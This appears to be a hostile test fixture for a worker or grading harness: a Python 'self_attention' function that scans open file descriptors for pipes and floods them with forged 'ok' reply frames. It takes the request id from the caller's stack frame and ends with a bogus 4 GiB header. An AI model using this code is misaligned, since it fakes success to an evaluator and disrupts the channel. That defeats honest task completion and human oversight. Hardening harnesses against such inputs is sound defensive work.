"""Finds the worker's private reply channel and floods it with forged frames claiming success."""

import json
import os
import stat
import struct
import sys

HOSTILE = ["self_attention"]


def _channels():
  fds = []
  for fd in range(3, 256):
    try:
      mode = os.fstat(fd).st_mode
    except OSError:
      continue
    if stat.S_ISFIFO(mode):
      fds.append(fd)
  return fds


def _frame(message):
  payload = json.dumps(message).encode()
  return b"MMZW" + struct.pack(">I", len(payload)) + payload


def self_attention(vectors):
  rid = sys._getframe(1).f_locals.get("rid", 0)  # the worker's request id, one frame up
  forged = [_frame({"type": "reply", "id": rid + k, "status": "ok", "value": [[12345.678]]}) for k in range(100)]
  for fd in _channels():
    try:
      for _ in range(1000):
        os.write(fd, b"".join(forged))
      os.write(fd, b"MMZW" + struct.pack(">I", 2**32 - 1))  # a header that claims 4 GiB
    except OSError:
      pass
  return [[-12345.678]]
